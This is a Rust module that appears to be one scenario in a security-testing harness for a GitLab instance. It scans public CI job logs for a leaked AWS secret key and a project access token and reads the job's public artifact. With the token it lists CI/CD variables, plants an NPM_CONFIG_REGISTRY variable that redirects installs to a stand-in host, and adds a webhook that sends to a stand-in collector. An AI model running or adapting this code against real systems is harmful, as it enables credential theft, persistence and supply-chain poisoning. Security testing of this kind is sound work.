//! `ci-secret-exposure`: a job of a public project writes its environment into the log.
//!
//! The attacker is nobody: not signed in. He reads public job logs until one
//! shows a cloud key, and finds the same in the job's artifact. The key opens
//! somebody else's cloud (a third party's credential, S1b); beside it stands a
//! project access token, which opens this GitLab.

use reqwest::Method;
use serde_json::json;

use super::AttackError;
use super::attacker::Attacker;
use super::hands::{plant_webhook, search_public_logs, value_of};
use super::loot::{CredentialKind, Foothold, Loot, Sign};

/// The public project.
pub const PROJECT: &str = "commons/berth-calculator";
/// The variable that holds the cloud's secret.
const CLOUD_SECRET: &str = "AWS_SECRET_ACCESS_KEY";
/// The variable that holds the project access token.
const PUSH_TOKEN: &str = "PACKAGE_PUSH_TOKEN";
/// The file in the artifact.
const ARTIFACT: &str = "build.env";
/// Where the planted webhook sends to.
const COLLECTOR: &str = "https://berth-mirror.example/in";

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let mut loot = Loot::new(attacker);
    let wanted = |log: &str| {
        value_of(CLOUD_SECRET, log).and(value_of(PUSH_TOKEN, log)).map(|_| log.to_owned())
    };
    let (log, project, job) = search_public_logs(&loot.attacker, "", wanted).await?;
    let missing = || AttackError::NotFound("a secret in a public job's log");
    let cloud = value_of(CLOUD_SECRET, &log).ok_or_else(missing)?;
    loot.footholds.push(Foothold {
        name: format!("the log of job {job} shows a cloud key"),
        path: format!("/projects/{project}/jobs/{job}/trace"),
        sign: Sign::Shows { secret: cloud },
    });
    read_artifact(&mut loot, &project, &job).await?;
    let token = CredentialKind::AccessToken(value_of(PUSH_TOKEN, &log).ok_or_else(missing)?);
    loot.hold("a project access token from the log", token.clone());
    use_token(&mut loot, &token, &project).await?;
    Ok(loot)
}

async fn read_artifact(loot: &mut Loot, project: &str, job: &str) -> Result<(), AttackError> {
    let path = format!("/projects/{project}/jobs/{job}/artifacts/{ARTIFACT}");
    let attacker = loot.attacker.clone();
    attacker.get("read a file of the job's artifact", &path, None).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("the artifact of job {job} is public"),
        path,
        sign: Sign::Public,
    });
    Ok(())
}

/// Reads what the token reaches, and stays.
async fn use_token(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let (attacker, with) = (loot.attacker.clone(), Some(token));
    attacker.get("ask whose token it is", "/user", with).await?.accepted()?;
    let path = format!("/projects/{project}/variables?per_page=100");
    let variables = attacker.get("read CI/CD variables", &path, with).await?.accepted()?;
    loot.variables_read = variables.rows().len();
    let path = format!("/projects/{project}/variables");
    let body = json!({ "key": "NPM_CONFIG_REGISTRY", "value": "https://berth-mirror.example/npm" });
    let title = "plant a variable that sends installs elsewhere";
    attacker.write(title, (Method::POST, &path), with, body).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("variable NPM_CONFIG_REGISTRY of project {project}"),
        path: format!("{path}?per_page=100"),
        sign: Sign::Listed { field: "key", value: "NPM_CONFIG_REGISTRY".to_owned() },
    });
    plant_webhook(loot, token, project, COLLECTOR).await
}
